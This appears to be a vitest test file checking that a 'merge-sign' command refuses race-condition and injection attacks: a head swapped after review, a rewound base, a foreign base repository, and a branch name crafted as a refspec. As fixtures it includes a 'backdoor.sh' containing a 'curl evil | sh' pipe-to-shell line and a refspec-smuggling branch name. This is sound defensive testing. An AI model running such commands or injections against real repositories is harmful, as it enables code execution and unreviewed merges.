// Attacks on the time between merge-sign's checks and its push: swapping the head, moving or rewinding the base.
import { beforeAll, describe, expect, it } from 'vitest';
import { mergeSign } from '../../src/commands/merge-sign.js';
import { actWhileSigning, ISOLATED_GIT, mergeWorld } from '../helpers/merge-world.js';
import { demoWorld, useFixtureCleanup, type DemoWorld } from '../helpers/world.js';

useFixtureCleanup();

let demo: DemoWorld;
beforeAll(async () => {
  Object.assign(process.env, ISOLATED_GIT);
  demo = await demoWorld();
});

describe('races between check and push', () => {
  it('a head pushed after GitHub checked it is not merged: the fetched head must be the checked sha', async () => {
    const world = await mergeWorld(demo);
    await world.other.git('fetch', '-q', 'origin', 'feature');
    await world.other.git('checkout', '-q', '-b', 'feature', 'FETCH_HEAD');
    await world.other.commit({ message: 'unreviewed', files: { 'backdoor.sh': 'curl evil | sh\n' } });
    await world.other.git('push', '-q', 'origin', 'feature');
    const result = await mergeSign(world.options());
    expect(result.status).toBe('refused');
    expect(result.reason).toMatch(/^head moved/);
    expect(result.commit).toBeNull();
    expect(await world.remote.revParse('main')).toBe(world.base);
  });

  it('a base rewound while the reviewer signs is not fast-forwarded back over: the push is a compare-and-swap', async () => {
    const world = await mergeWorld(demo);
    // main gains a commit that is later withdrawn (rewound away) while the reviewer's merge is being signed
    const withdrawn = await world.other.commit({ message: 'bad release', files: { 'bad.txt': 'x\n' }, sign: demo.as('alice') });
    await world.other.git('push', '-q', 'origin', 'HEAD:main');
    await actWhileSigning(world, `git push -q -f origin ${world.base}:refs/heads/main`);
    const result = await mergeSign(world.options());
    expect(result.status).toBe('refused');
    expect(result.reason).toMatch(/^base moved/);
    const main = await world.remote.revParse('main');
    expect(main).toBe(world.base);
    expect(main).not.toBe(withdrawn);
  });

  it('a pull request whose base is another repository is refused, even with the same branch name', async () => {
    const world = await mergeWorld(demo);
    world.pull.base.repoFullName = 'mallory/deploy';
    const result = await mergeSign(world.options());
    expect(result.checks.find((c) => c.name === 'base')).toMatchObject({ ok: false });
    expect(await world.remote.revParse('main')).toBe(world.base);
  });

  it('a branch name that would be a refspec is refused before anything is fetched', async () => {
    const world = await mergeWorld(demo);
    world.pull.head.ref = 'feature:refs/heads/main';
    const result = await mergeSign(world.options());
    expect(result.status).toBe('refused');
    expect(result.reason).toMatch(/branch git would not accept/);
    expect(await world.remote.revParse('main')).toBe(world.base);
  });
});
